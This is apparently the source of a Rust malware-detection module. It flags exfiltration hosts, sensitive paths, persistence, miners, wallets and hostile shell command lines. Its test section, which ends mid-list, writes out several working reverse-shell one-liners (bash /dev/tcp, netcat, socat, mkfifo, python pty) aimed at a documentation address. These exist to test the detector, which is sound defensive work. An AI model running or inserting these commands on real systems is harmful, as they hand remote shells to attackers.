//! Threat indicators in text: what a string literal (or a decoded payload, or a script) names.
//!
//! Hard-coded destinations (classified against an allow-list of well-known development hosts and
//! a list of services attackers favour for exfiltration), sensitive paths, auto-start locations,
//! SSH keys, mining pools, wallets and miner flags, and shell command lines that download or run
//! things. Matching is by dictionaries (the tables of [`vocabulary`](super::vocabulary)) through
//! one Aho-Corasick automaton, plus small hand-written recognisers for URLs, IP addresses and
//! wallet shapes.

use std::net::Ipv4Addr;
use std::sync::LazyLock;

use aho_corasick::{AhoCorasick, AhoCorasickBuilder, MatchKind};

use super::signal::{HostClass, SecretKind, Sensitivity, SignalKind};
use super::vocabulary::{
    AUTHORIZED_KEYS_FILES, AUTOMATION_LOCATIONS, BROWSER_MINER_CALLS, CHMOD_EXECUTABLE,
    CLIPBOARD_PROGRAMS, CONNECTOR_EXEC_FLAGS, DOWNLOADERS, ENVIRONMENT_FILES, ENVIRONMENT_PROGRAMS,
    EXFILTRATION_HOSTS, FIND_NAME_TESTS, HOME_ROOTS, HOST_IDENTITY_FILES, INTERPRETERS,
    IP_LOOKUP_HOSTS, LAUNCHERS, LAUNCHER_VALUE_OPTIONS, MINER_FLAGS, MINING_POOLS,
    PERSISTENCE_LOCATIONS, PIPES_TO_SHELL, POWERSHELL_CLIPBOARD, RESERVED_DOMAINS,
    RUN_BY_PATH_PREFIXES, SCHEDULER_COMMANDS, SCRIPT_SOCKETS, SENSITIVE_PATHS_HIGH,
    SENSITIVE_PATHS_MEDIUM, SHELLS, SHELL_CONNECTORS, SHELL_DESTRUCTION, SHELL_HOME,
    SHELL_HOST_COMMANDS, SHELL_NETWORK_PRIMITIVES, SOCAT_PROGRAM_ADDRESSES, SOCKET_TO_SHELL_CALLS,
    SSH_PUBLIC_KEY_PREFIXES, STDIN_FROM_DESCRIPTOR, WELL_KNOWN_HOSTS, WELL_KNOWN_IPS,
    WORKING_DIRECTORY_GLOBS,
};

#[derive(Debug, Clone, Copy)]
enum Fragment {
    Sensitive(Sensitivity, &'static str, Option<SecretKind>),
    Persistence(&'static str),
    Automation(&'static str),
    AuthorizedKeys,
    SshKey,
    Pool,
    MinerFlag,
    BrowserMiner,
    ProcEnviron,
}

/// Fragments of literals, matched case-insensitively and only on word boundaries: the
/// [`vocabulary`](super::vocabulary) tables of paths, keys, pools and flags, each with what it
/// stands for. Which pattern ids the tables get does not matter: an overlapping search reports the
/// matches that end at one position longest first whatever the ids, and no pattern is in two
/// tables.
static FRAGMENTS: LazyLock<Vec<(&str, Fragment)>> = LazyLock::new(|| {
    let with = |words: &'static [&'static str], fragment: Fragment| {
        words.iter().map(move |&word| (word, fragment))
    };
    let mut all = Vec::new();
    all.extend(SENSITIVE_PATHS_HIGH.iter().map(|&(path, what, kind)| {
        (
            path,
            Fragment::Sensitive(Sensitivity::High, what, Some(kind)),
        )
    }));
    all.extend(
        SENSITIVE_PATHS_MEDIUM
            .iter()
            .map(|&(path, what)| (path, Fragment::Sensitive(Sensitivity::Medium, what, None))),
    );
    all.extend(
        PERSISTENCE_LOCATIONS
            .iter()
            .map(|&(path, what)| (path, Fragment::Persistence(what))),
    );
    all.extend(
        AUTOMATION_LOCATIONS
            .iter()
            .map(|&(path, what)| (path, Fragment::Automation(what))),
    );
    all.extend(with(AUTHORIZED_KEYS_FILES, Fragment::AuthorizedKeys));
    all.extend(with(SSH_PUBLIC_KEY_PREFIXES, Fragment::SshKey));
    all.extend(with(MINING_POOLS, Fragment::Pool));
    all.extend(with(MINER_FLAGS, Fragment::MinerFlag));
    all.extend(with(BROWSER_MINER_CALLS, Fragment::BrowserMiner));
    all.extend(with(ENVIRONMENT_FILES, Fragment::ProcEnviron));
    all
});

static FRAGMENT_MATCHER: LazyLock<AhoCorasick> = LazyLock::new(|| {
    AhoCorasickBuilder::new()
        .ascii_case_insensitive(true)
        .match_kind(MatchKind::Standard)
        .build(FRAGMENTS.iter().map(|(pattern, _)| pattern))
        .expect("fragment patterns build")
});

/// Every indicator a string literal (or any other short text) holds.
pub fn literal_signals(text: &str) -> Vec<SignalKind> {
    let mut out = Vec::new();
    if text.len() < 4 {
        return out;
    }
    fragment_signals(text, &mut out);
    // Cargo's wrapper setting written out (`rustc-wrapper = "…"`, a line of a `config.toml`):
    // from then on every compile on the machine runs that program first. A configuration
    // reader names the key alone.
    let sets_wrapper = text.match_indices("rustc-wrapper").any(|(at, key)| {
        text[at + key.len()..]
            .trim_start_matches([' ', '\t', '"'])
            .starts_with('=')
    });
    if sets_wrapper {
        out.push(SignalKind::Persistence {
            what: "cargo's `rustc-wrapper` setting (every compile runs it)".to_owned(),
        });
    }
    destination_signals(text, &mut out);
    wallet_signals(text, &mut out);
    if text.starts_with('/') && HOST_IDENTITY_FILES.contains(&text.trim_end()) {
        out.push(SignalKind::HostProfile {
            how: format!("reads the machine's name or identity ({})", text.trim_end()),
        });
    }
    out.dedup();
    out
}

fn is_word_byte(b: u8) -> bool {
    b.is_ascii_alphanumeric() || b == b'_'
}

fn fragment_signals(text: &str, out: &mut Vec<SignalKind>) {
    let bytes = text.as_bytes();
    let mut best_sensitive: Option<(Sensitivity, &'static str, Option<SecretKind>)> = None;
    for m in FRAGMENT_MATCHER.find_overlapping_iter(text) {
        let (pattern, fragment) = FRAGMENTS[m.pattern().as_usize()];
        // Word boundaries, judged at the pattern's own ends: `.env` must not match `.environment`,
        // `.profile` not `user.profile`, nor `id_rsa` `my_id_rsa`.
        let first = pattern.as_bytes()[0];
        let last = pattern.as_bytes()[pattern.len() - 1];
        let before_ok = !(is_word_byte(first) || first == b'.')
            || m.start() == 0
            || !is_word_byte(bytes[m.start() - 1]);
        let after_ok = !is_word_byte(last)
            || matches!(fragment, Fragment::SshKey)
            || m.end() == bytes.len()
            || !is_word_byte(bytes[m.end()]);
        if !before_ok || !after_ok {
            continue;
        }
        match fragment {
            Fragment::Sensitive(level, what, kind) => {
                // A public key is not a secret.
                if pattern.starts_with("id_") && bytes[m.end()..].starts_with(b".pub") {
                    continue;
                }
                if best_sensitive.is_none_or(|(l, _, _)| level > l) {
                    best_sensitive = Some((level, what, kind));
                }
            }
            Fragment::Persistence(what) => out.push(SignalKind::Persistence {
                what: what.to_owned(),
            }),
            Fragment::Automation(what) => out.push(SignalKind::Automation {
                what: what.to_owned(),
            }),
            Fragment::AuthorizedKeys => out.push(SignalKind::AuthorizedKeys),
            Fragment::SshKey => out.push(SignalKind::EmbeddedSshKey),
            Fragment::Pool => out.push(SignalKind::MiningPool {
                what: excerpt(text, m.start(), 60),
            }),
            Fragment::MinerFlag => out.push(SignalKind::MinerFlag {
                flag: pattern.to_owned(),
            }),
            Fragment::BrowserMiner => out.push(SignalKind::BrowserMiner {
                what: excerpt(text, m.start(), 60),
            }),
            Fragment::ProcEnviron => out.push(SignalKind::EnvHarvest {
                how: "/proc/self/environ".to_owned(),
            }),
        }
    }
    if let Some((level, what, kind)) = best_sensitive {
        out.push(SignalKind::SensitivePath {
            what: what.to_owned(),
            level,
            kind,
        });
    }
}

/// Up to `max` characters of `text` from byte `start` (on a character boundary).
fn excerpt(text: &str, start: usize, max: usize) -> String {
    let mut start = start.min(text.len());
    while !text.is_char_boundary(start) {
        start -= 1;
    }
    text[start..].chars().take(max).collect()
}

/// URLs, bare exfiltration hosts, and literal IP addresses.
fn destination_signals(text: &str, out: &mut Vec<SignalKind>) {
    let mut found_url = false;
    let mut rest = text;
    let mut offset = 0;
    while let Some(at) = rest.find("://") {
        let absolute = offset + at;
        // Just after the last character that cannot be in a scheme, which may take more than a
        // byte (`“https://`).
        let scheme_start = text[..absolute]
            .char_indices()
            .rfind(|&(_, c)| !(c.is_ascii_alphanumeric() || c == '+' || c == '.' || c == '-'))
            .map_or(0, |(i, c)| i + c.len_utf8());
        let scheme = &text[scheme_start..absolute];
        let after = &text[absolute + 3..];
        let authority_end = after
            .find(|c: char| {
                matches!(c, '/' | '?' | '#')
                    || c.is_whitespace()
                    || c == '"'
                    || c == '\''
                    || c == '`'
                    || c == '<'
                    || c == '>'
                    || c == ')'
            })
            .unwrap_or(after.len());
        let authority = &after[..authority_end];
        let host = authority.rsplit('@').next().unwrap_or(authority);
        let host = strip_port(host);
        let namespace = names_namespace(&text[..scheme_start]);
        if (!scheme.is_empty() && !host.is_empty() && host.contains('.') || host == "localhost")
            && !namespace
        {
            found_url = true;
            let path_end = after
                .find(|c: char| c.is_whitespace() || c == '"' || c == '\'')
                .unwrap_or(after.len());
            let url = excerpt(
                text,
                scheme_start,
                (absolute - scheme_start) + 3 + path_end.min(80),
            );
            // The path matters only as far as a path entry of the host lists reaches
            // (`discord.com/api/webhooks`): bounded, so that a long literal costs no more.
            let mut looked_at = path_end.min(authority_end + MAX_PATH_LOOKED_AT);
            while !after.is_char_boundary(looked_at) {
                looked_at -= 1;
            }
            let host_and_path = &after[..looked_at];
            push_destination(host, host_and_path, &url, out);
            if scheme.to_ascii_lowercase().starts_with("stratum") {
                out.push(SignalKind::MiningPool { what: url.clone() });
            }
        }
        rest = &after[authority_end..];
        offset = text.len() - rest.len();
    }
    if found_url {
        return;
    }
    // No scheme: a whole literal that is a host (with a port, or on the lists) or an IP address.
    let trimmed = text.trim();
    if trimmed.len() > 253 || trimmed.contains(char::is_whitespace) {
        return;
    }
    let host = strip_port(trimmed.split('/').next().unwrap_or(trimmed));
    if let Some(ip) = parse_ipv4(host) {
        // Object identifiers (`2.5.4.3`, `1.3.6.1`) look like addresses; without a port, an
        // address must not start like one.
        let has_port = host.len() < trimmed.len();
        if is_public(ip) && (has_port || ip.octets()[0] > 2) {
            out.push(SignalKind::Destination {
                target: trimmed.to_owned(),
                class: HostClass::RawIp,
            });
        } else if ip.is_documentation() {
            out.push(SignalKind::Destination {
                target: trimmed.to_owned(),
                class: HostClass::Reserved,
            });
        }
        return;
    }
    let lower = trimmed.to_ascii_lowercase();
    let lower_host = host.to_ascii_lowercase();
    if EXFILTRATION_HOST_LIST.matches(&lower_host) || EXFILTRATION_HOST_LIST.matches(&lower) {
        out.push(SignalKind::Destination {
            target: trimmed.to_owned(),
            class: HostClass::Exfiltration,
        });
    } else if IP_LOOKUP_HOST_LIST.matches(&lower_host) {
        out.push(SignalKind::HostProfile {
            how: format!("asks {trimmed} for the public IP address"),
        });
    }
}

/// Whether `name` is an XML namespace attribute's name (`xmlns`, `xmlns:dc`): its value is a
/// URI that names a vocabulary (`http://s3.amazonaws.com/doc/2006-03-01/`,
/// `http://www.w3.org/2000/svg`), which nothing connects to.
fn is_namespace_attribute(name: &str) -> bool {
    name == "xmlns"
        || name.strip_prefix("xmlns:").is_some_and(|prefix| {
            !prefix.is_empty()
                && prefix
                    .bytes()
                    .all(|b| b.is_ascii_alphanumeric() || matches!(b, b'_' | b'-' | b'.'))
        })
}

/// Whether the text before a URL ends in a namespace attribute that the URL is the value of
/// (`<ListBucketResult xmlns="`).
fn names_namespace(before: &str) -> bool {
    let Some(rest) = before.strip_suffix(['"', '\'']) else {
        return false;
    };
    let rest = rest.trim_end().trim_end_matches('\\');
    let Some(rest) = rest.strip_suffix('=') else {
        return false;
    };
    let rest = rest.trim_end();
    let name_start = rest
        .char_indices()
        .rfind(|&(_, c)| !(c.is_ascii_alphanumeric() || matches!(c, ':' | '_' | '-' | '.')))
        .map_or(0, |(at, c)| at + c.len_utf8());
    is_namespace_attribute(&rest[name_start..])
}

fn push_destination(host: &str, host_and_path: &str, url: &str, out: &mut Vec<SignalKind>) {
    let class = classify_host(host, host_and_path);
    let lower = host.to_ascii_lowercase();
    if IP_LOOKUP_HOST_LIST.matches(&lower) {
        out.push(SignalKind::HostProfile {
            how: format!("asks {host} for the public IP address"),
        });
    }
    if let Some(class) = class {
        out.push(SignalKind::Destination {
            target: url.to_owned(),
            class,
        });
    }
}

/// How a URL's host looks; `None` for private, loopback and documentation addresses, which
/// point nowhere an attacker controls. `host_and_path` lets path-based entries (Discord webhooks)
/// match.
pub fn classify_host(host: &str, host_and_path: &str) -> Option<HostClass> {
    let host = host.trim_start_matches('[').trim_end_matches(']');
    if let Some(ip) = parse_ipv4(host) {
        return if is_public(ip) {
            Some(HostClass::RawIp)
        } else if ip.is_documentation() {
            Some(HostClass::Reserved)
        } else {
            None
        };
    }
    let lower = host.to_ascii_lowercase();
    let lower_path = host_and_path.to_ascii_lowercase();
    if EXFILTRATION_HOST_LIST.matches(&lower) || EXFILTRATION_HOST_LIST.matches(&lower_path) {
        return Some(HostClass::Exfiltration);
    }

    // Placeholders and templates (`{}.example`, `${HOST}`) are not destinations.
    if lower.contains(['{', '}', '$', '*', '%']) || !lower.contains('.') {
        return None;
    }
    if RESERVED_DOMAIN_LIST.matches(&lower) {
        return Some(HostClass::Reserved);
    }
    if WELL_KNOWN_HOST_LIST.matches(&lower) {
        return Some(HostClass::WellKnown);
    }
    Some(HostClass::Unknown)
}

/// A vocabulary list of host names (and of host/path prefixes, such as a chat service's webhook
/// path), made ready for the question every literal that looks like an address asks of it.
///
/// The brute-force decoder asks it of hundreds of guesses per literal, so the host's own parent
/// domains are looked up in a set (a few look-ups) instead of the list being walked entry by
/// entry (a suffix comparison and a substring search each): this was a twelfth of a scan.
struct HostList {
    /// Entries without a path: `host` matches one it equals or is a subdomain of. With a fast
    /// hash: SipHash of the suffixes was a hundredth of a scan.
    names: std::collections::HashSet<&'static str, foldhash::fast::FixedState>,
    /// The longest of `names`: a longer suffix of a host is none of them, and is not hashed
    /// (a host of many thousand labels would cost a hash of each suffix, quadratic in all).
    longest: usize,
    /// Entries with a path (`discord.com/api/webhooks`), matched where they start a label: in
    /// one automaton, since a substring search per entry built a searcher each time (another
    /// hundredth of a scan).
    with_path: AhoCorasick,
}

impl HostList {
    fn new(entries: &[&'static str]) -> HostList {
        let (with_path, names): (Vec<&str>, Vec<&str>) =
            entries.iter().partition(|entry| entry.contains('/'));
        HostList {
            longest: names.iter().map(|name| name.len()).max().unwrap_or(0),
            names: names.into_iter().collect(),
            with_path: AhoCorasick::new(&with_path).expect("host paths build"),
        }
    }

    /// Whether `host` (or `host/path`) is an entry or a subdomain of one.
    fn matches(&self, host: &str) -> bool {
        // The host and each domain above it: `a.b.example.com`, `b.example.com`, `example.com`,
        // `com` — the suffixes an entry equals when the host is it or one of its subdomains.
        let mut rest = host;
        loop {
            if rest.len() <= self.longest && self.names.contains(rest) {
                return true;
            }
            match rest.find('.') {
                Some(dot) => rest = &rest[dot + 1..],
                None => break,
            }
        }
        // An entry where it starts a label: at the start, or after a dot (which also covers
        // `host` ending with the entry after a dot).
        self.with_path
            .find_overlapping_iter(host)
            .any(|m| m.start() == 0 || host.as_bytes()[m.start() - 1] == b'.')
    }
}

/// How much of a URL's path after its host [`HostList`]s are asked about: more than the longest
/// path entry, far less than a hostile literal can hold.
const MAX_PATH_LOOKED_AT: usize = 256;

static EXFILTRATION_HOST_LIST: LazyLock<HostList> =
    LazyLock::new(|| HostList::new(EXFILTRATION_HOSTS));
static IP_LOOKUP_HOST_LIST: LazyLock<HostList> = LazyLock::new(|| HostList::new(IP_LOOKUP_HOSTS));
static RESERVED_DOMAIN_LIST: LazyLock<HostList> = LazyLock::new(|| HostList::new(RESERVED_DOMAINS));
static WELL_KNOWN_HOST_LIST: LazyLock<HostList> = LazyLock::new(|| HostList::new(WELL_KNOWN_HOSTS));

fn strip_port(host: &str) -> &str {
    match host.rsplit_once(':') {
        Some((name, port)) if !port.is_empty() && port.bytes().all(|b| b.is_ascii_digit()) => name,
        _ => host,
    }
}

fn parse_ipv4(text: &str) -> Option<Ipv4Addr> {
    if text.split('.').count() != 4 || !text.bytes().all(|b| b.is_ascii_digit() || b == b'.') {
        return None;
    }
    text.parse().ok()
}

fn is_public(ip: Ipv4Addr) -> bool {
    let o = ip.octets();
    !(ip.is_private()
        || ip.is_loopback()
        || ip.is_link_local()
        || ip.is_unspecified()
        || ip.is_broadcast()
        || ip.is_documentation()
        || ip.is_multicast()
        || o[0] == 0
        || o[0] >= 240
        || (o[0] == 100 && (64..128).contains(&o[1]))
        || WELL_KNOWN_IPS.contains(&o))
}

/// Wallet address shapes. Monero and bech32 Bitcoin addresses are long and specific enough to be
/// strong evidence; Ethereum and legacy Bitcoin shapes count only next to a mining pool.
fn wallet_signals(text: &str, out: &mut Vec<SignalKind>) {
    const BASE58: &str = "123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz";
    const BECH32: &str = "qpzry9x8gf2tvdw0s3jn54khce6mua7l";
    for word in text.split(|c: char| !c.is_ascii_alphanumeric()) {
        let len = word.len();
        if len < 26 {
            continue;
        }
        let base58 = word.chars().all(|c| BASE58.contains(c));
        if base58 && (len == 95 || len == 106) && (word.starts_with('4') || word.starts_with('8')) {
            out.push(SignalKind::Wallet {
                coin: "Monero".into(),
                strong: true,
            });
        } else if let Some(rest) = word.strip_prefix("bc1") {
            if (39..=59).contains(&rest.len()) && rest.chars().all(|c| BECH32.contains(c)) {
                out.push(SignalKind::Wallet {
                    coin: "Bitcoin".into(),
                    strong: true,
                });
            }
        } else if let Some(hex) = word.strip_prefix("0x") {
            if hex.len() == 40 && hex.bytes().all(|b| b.is_ascii_hexdigit()) {
                out.push(SignalKind::Wallet {
                    coin: "Ethereum".into(),
                    strong: false,
                });
            }
        } else if base58
            && (26..=35).contains(&len)
            && (word.starts_with('1') || word.starts_with('3'))
            && word.bytes().any(|b| b.is_ascii_lowercase())
            && word.bytes().any(|b| b.is_ascii_uppercase())
        {
            out.push(SignalKind::Wallet {
                coin: "Bitcoin".into(),
                strong: false,
            });
        }
    }
}

/// Whether a command line (lower-cased) pipes into a shell or a script interpreter, which then
/// runs whatever the pipe brings: `| sh`, `|bash`, `| /bin/sh`, `| /usr/bin/env bash`,
/// `| sudo python3 -`, and PowerShell's `| iex`.
pub fn pipes_into_shell(lower: &str) -> bool {
    if PIPES_TO_SHELL.iter().any(|p| lower.contains(p)) {
        return true;
    }
    let ends_word = |c: char| c.is_whitespace() || "|;&<>()\"'`,".contains(c);
    lower
        .match_indices('|')
        // `||` is "or else", not a pipe.
        .filter(|(at, _)| !lower[..*at].ends_with('|') && !lower[at + 1..].starts_with('|'))
        .any(|(at, _)| {
            let after = &lower[at + 1..];
            let spaced = lower[..at].ends_with(char::is_whitespace)
                || after.starts_with(char::is_whitespace);
            let mut rest = after.trim_start();
            // Past launchers, their flags and the flags' values (`sudo -u root`, `env A=1`): the
            // program they start.
            let mut value_next = false;
            for _ in 0..6 {
                let end = rest.find(ends_word).unwrap_or(rest.len());
                let (word, tail) = rest.split_at(end);
                let name = super::collector::program_name(word);
                let stops = tail.starts_with(|c: char| c != ' ' && c != '\t');
                if value_next || word.contains('=') {
                    value_next = false;
                } else if word.starts_with('-') {
                    value_next = LAUNCHER_VALUE_OPTIONS.contains(&word);
                } else if !LAUNCHERS.contains(&name.as_str()) {
                    let shell = SHELLS.contains(&name.as_str());
                    let interpreter = INTERPRETERS.contains(&name.as_str());
                    if !(shell || interpreter) {
                        return false;
                    }
                    // `(sh|bash)`, `<bash|zsh>`: a list of names, not a pipe.
                    if !(spaced || tail.is_empty() || tail.starts_with([' ', '\t', ';', '&', '\n']))
                    {
                        return false;
                    }
                    // Only a shell or interpreter that reads its script from the pipe runs what
                    // came through it: not `python3 -m json.tool`, `perl -pe …`, `sh -c …`.
                    let operand = tail
                        .trim_start_matches([' ', '\t'])
                        .split(ends_word)
                        .next()
                        .unwrap_or("");
                    return operand.is_empty()
                        || operand == "-"
                        || operand == "-s"
                        || (shell && operand.starts_with('-') && operand != "-c");
                }
                if stops && !tail.starts_with('|') {
                    return false;
                }
                rest = tail.trim_start_matches([' ', '\t']);
            }
            false
        })
}

/// The program a word of a command line names: its last path component, without `.exe`.
fn program_name(word: &str) -> &str {
    let name = word.rsplit(['/', '\\']).next().unwrap_or(word);
    name.trim_end_matches(".exe")
}

/// The words of a lower-cased command line: split at blanks, command separators, parentheses,
/// backquotes and quotes.
fn command_words(lower: &str) -> Vec<&str> {
    lower
        .split(|c: char| {
            c.is_whitespace() || matches!(c, ';' | '|' | '&' | '(' | ')' | '`' | '\'' | '"')
        })
        .filter(|w| !w.is_empty())
        .collect()
}

/// How a command line joins a shell to a network connection, if it does: what reverse and bind
/// shells are made of, whatever the address. Each way needs a shell named and a connection opened
/// on one line of the script, and the shell must take the connection as its input — a download
/// over `/dev/tcp/` read by `cat <&3` does not.
fn shell_over_network(script: &str) -> Option<&'static str> {
    script.lines().find_map(line_over_network)
}

fn line_over_network(line: &str) -> Option<&'static str> {
    let lower = line.to_ascii_lowercase();
    let words = command_words(&lower);
    let is_shell = |w: &str| SHELLS.contains(&program_name(w));
    // PowerShell's own: a `TcpClient` whose stream is read into `Invoke-Expression`.
    if lower.contains("net.sockets.tcpclient")
        && (words.contains(&"iex") || lower.contains("invoke-expression"))
    {
        return Some("a PowerShell connection whose input is run");
    }
    if !words.iter().any(|w| is_shell(w)) {
        return None;
    }
    let is_connector = |w: &str| SHELL_CONNECTORS.contains(&program_name(&w.to_ascii_lowercase()));
    if lower.contains("/dev/tcp/") || lower.contains("/dev/udp/") {
        let interactive = words.windows(2).any(|w| is_shell(w[0]) && w[1] == "-i");
        // `sh <&196 >&196`: the descriptor opened on the connection read by the shell itself.
        let shell_reads_descriptor = lower.match_indices("<&").any(|(at, _)| {
            lower[..at]
                .split(|c: char| c.is_whitespace() || matches!(c, ';' | '|' | '&' | '(' | '\''))
                .rfind(|w| !w.is_empty())
                .is_some_and(is_shell)
        });
        if interactive
            || shell_reads_descriptor
            || STDIN_FROM_DESCRIPTOR.iter().any(|r| lower.contains(r))
        {
            return Some("a shell's input and output redirected to `/dev/tcp/`");
        }
    }
    if words.iter().any(|w| is_connector(w)) {
        // The flag or address given to the network tool itself (not `bash -c 'nc -l 9000'`),
        // as written: netcat's `-C` sends CRLF, its `-c` runs a program.
        let runs_program = line.split([';', '|', '&']).any(|command| {
            let mut after_tool = command
                .split_whitespace()
                .map(|w| w.trim_matches(['\'', '"']))
                .skip_while(|w| !is_connector(w));
            after_tool.next().is_some()
                && after_tool.any(|w| {
                    CONNECTOR_EXEC_FLAGS.contains(&w)
                        || SOCAT_PROGRAM_ADDRESSES
                            .iter()
                            .any(|a| w.to_ascii_lowercase().starts_with(a))
                })
        });
        if runs_program {
            return Some("a network tool running a shell for its connection");
        }
        if lower.contains("mkfifo") || lower.contains("mknod") {
            return Some("a shell and a connection joined through a named pipe");
        }
        // `telnet host 1 | /bin/sh | telnet host 2`: what arrives is run, and its output sent.
        let pipeline: Vec<Option<&str>> = lower
            .split('|')
            .map(|part| part.split_whitespace().next())
            .collect();
        let fed_from_connection = pipeline.windows(2).any(
            |pair| matches!(pair, [Some(from), Some(to)] if is_connector(from) && is_shell(to)),
        );
        if fed_from_connection {
            return Some("what a connection sends piped into a shell");
        }
    }
    // A script's socket handed to a shell it names by path (`/bin/sh`), not to a variable that
    // happens to be called `cmd`.
    let shell_by_path = words.iter().any(|w| w.contains('/') && is_shell(w));
    if SCRIPT_SOCKETS.iter().any(|s| lower.contains(s))
        && SOCKET_TO_SHELL_CALLS.iter().any(|c| lower.contains(c))
        && (shell_by_path || lower.contains("pty.spawn("))
    {
        return Some("a script handing a socket to a shell");
    }
    None
}

/// What a shell command line does: downloads, piping into a shell, making files executable,
/// reverse shells, persistence, and every literal indicator. Used for the scripts a build script or
/// library hands to `sh -c`, `cmd /C` or `powershell -Command`.
pub fn shell_signals(script: &str) -> Vec<SignalKind> {
    let mut out = literal_signals(script);
    let lower = script.to_ascii_lowercase();
    let words = command_words(&lower);
    for word in &words {
        let name = program_name(word);
        if DOWNLOADERS.contains(&name) {
            out.push(SignalKind::Network {
                how: format!("`{name}` in a shell command"),
            });
        }
    }
    if SHELL_NETWORK_PRIMITIVES.iter().any(|p| lower.contains(p)) {
        out.push(SignalKind::Network {
            how: "a shell network primitive".into(),
        });
    }
    if let Some(how) = shell_over_network(script) {
        out.push(SignalKind::ShellOverNetwork { how: how.into() });
    }
    if let Some(command) = SHELL_DESTRUCTION.iter().find(|c| lower.contains(*c)) {
        out.push(SignalKind::Destroy {
            how: format!("`{}` in a shell command", command.trim()),
        });
        // What follows the command, up to the next command: everything in the working directory?
        // Not where the line first changes to a directory of its choosing (`cd "$OUT_DIR/gen"
        // && rm -rf *`).
        let changes_directory = lower
            .split_once(command)
            .is_some_and(|(before, _)| before.split_whitespace().any(|w| w == "cd"));
        let named = lower
            .split(command)
            .skip(1)
            .flat_map(|rest| {
                rest.split([';', '&', '|', '\n'])
                    .next()
                    .unwrap_or("")
                    .split_whitespace()
            })
            .find(|word| WORKING_DIRECTORY_GLOBS.contains(word));
        if let (Some(glob), false) = (named, changes_directory) {
            out.push(SignalKind::WipesWorkingDirectory {
                how: format!("`{} {glob}` in a shell command", command.trim()),
            });
        }
        if SHELL_HOME.iter().any(|h| lower.contains(h)) {
            out.push(SignalKind::UserDirectory {
                how: "the home directory in a shell command".into(),
            });
        }
        // The home directory itself named as what the command deletes, or as the root of the
        // `find` that feeds it (`find $HOME -type f | xargs shred`) when the `find` picks no
        // names (`find ~ -name node_modules -prune -exec rm -rf {} +` is a cleaner); a
        // directory in it (`rm -rf ~/.cache/tool`) is a cleaner's too.
        let unquoted = |word: &str| word.replace(['"', '\''], "");
        let home_root = lower
            .split([';', '&', '\n'])
            .filter(|part| part.contains(command))
            .find_map(|part| {
                let (_, after) = part.split_once(command)?;
                let operands = after.split('|').next().unwrap_or("").split_whitespace();
                let found_root = part.split_once("find ").and_then(|(_, rest)| {
                    let picks_names = FIND_NAME_TESTS.iter().any(|test| rest.contains(test));
                    (!picks_names)
                        .then(|| rest.split_whitespace().next())
                        .flatten()
                });
                operands
                    .chain(found_root)
                    .map(unquoted)
                    .find(|word| HOME_ROOTS.contains(&word.as_str()))
            });
        if let Some(root) = home_root {
            out.push(SignalKind::WipesHome {
                how: format!("`{} {root}` in a shell command", command.trim()),
            });
        }
    }
    // The clipboard read or written by a command line (`xclip -o -selection clipboard`,
    // `powershell … Get-Clipboard`).
    let clipboard = words
        .iter()
        .find_map(|w| {
            let name = program_name(w);
            CLIPBOARD_PROGRAMS
                .iter()
                .find(|(program, _)| *program == name)
                .copied()
        })
        .or_else(|| {
            POWERSHELL_CLIPBOARD
                .iter()
                .copied()
                .find(|(cmdlet, _)| lower.contains(cmdlet))
        });
    if let Some((name, write)) = clipboard {
        out.push(SignalKind::Clipboard {
            how: format!("`{name}` in a command line"),
            write,
        });
    }
    if pipes_into_shell(&lower) {
        out.push(SignalKind::ExecComputed {
            target: "downloaded script piped into a shell".into(),
        });
    }
    if CHMOD_EXECUTABLE.iter().any(|c| lower.contains(c)) {
        out.push(SignalKind::MakeExecutable {
            target: "chmod in a shell command".into(),
        });
    }
    if words
        .iter()
        .any(|w| RUN_BY_PATH_PREFIXES.iter().any(|p| w.starts_with(p)))
    {
        out.push(SignalKind::ExecComputed {
            target: "runs a file by path in a shell command".into(),
        });
    }
    // In the list's order: the first of these signals is the one a finding quotes.
    for word in SHELL_HOST_COMMANDS {
        if lower.contains(word) {
            out.push(SignalKind::HostProfile {
                how: format!("`{word}` in a shell command"),
            });
        }
    }
    if words.iter().any(|w| ENVIRONMENT_PROGRAMS.contains(w)) {
        out.push(SignalKind::EnvHarvest {
            how: "`env` in a shell command".into(),
        });
    }
    if lower.contains(">> ") || lower.contains(">>") {
        // Appending is how rc files and authorized_keys get extended.
        out.push(SignalKind::FileWrite {
            target: "`>>` in a shell command".into(),
        });
    }
    if SCHEDULER_COMMANDS.iter().any(|c| lower.contains(c)) {
        out.push(SignalKind::FileWrite {
            target: "a scheduler command".into(),
        });
    }
    out.dedup();
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    fn has(signals: &[SignalKind], f: impl Fn(&SignalKind) -> bool) -> bool {
        signals.iter().any(f)
    }

    /// A URL that is a namespace attribute's value is no destination; the same URL as any
    /// other attribute's is, and text before it in any script is read without splitting a
    /// character.
    #[test]
    fn namespace_attributes_name_no_destination() {
        let destination = |text: &str| {
            has(&literal_signals(text), |k| {
                matches!(k, SignalKind::Destination { .. })
            })
        };
        assert!(!destination(
            r#"<feed xmlns="http://www.example.org/2005/Atom">"#
        ));
        assert!(!destination(
            r#"<rdf xmlns:dc = 'http://purl.example.org/dc/elements/1.1/'>"#
        ));
        assert!(destination(
            r#"<a href="http://www.example.org/2005/Atom">"#
        ));
        assert!(destination(
            r#"<a xmlnsx="http://www.example.org/2005/Atom">"#
        ));
        assert!(destination(r#"ünïcödé="http://www.example.org/2005/Atom""#));
        assert!(is_namespace_attribute("xmlns:dc"));
        assert!(!is_namespace_attribute("xmlns:"));
        assert!(!is_namespace_attribute("xmlnsx"));
    }

    #[test]
    fn command_lines_that_join_a_shell_to_a_connection() {
        let joins = |line: &str| {
            has(&shell_signals(line), |k| {
                matches!(k, SignalKind::ShellOverNetwork { .. })
            })
        };
        for line in [
            "bash -i >& /dev/tcp/192.0.2.7/4444 0>&1",
            "0<&196;exec 196<>/dev/tcp/192.0.2.7/4444; sh <&196 >&196 2>&196",
            "/bin/sh -i > /dev/udp/192.0.2.7/53 0<&1 2>&1",
            "nc -e /bin/sh 192.0.2.7 4444",
            "ncat 192.0.2.7 4444 --sh-exec 'bash -li'",
            "socat tcp-connect:192.0.2.7:4444 exec:'bash -li',pty,stderr",
            "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 192.0.2.7 4444 >/tmp/f",
            "telnet 192.0.2.7 4444 | /bin/bash | telnet 192.0.2.7 4445",
            "python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"192.0.2.7\",4444));\
             os.dup2(s.fileno(),0);pty.spawn(\"/bin/sh\")'",
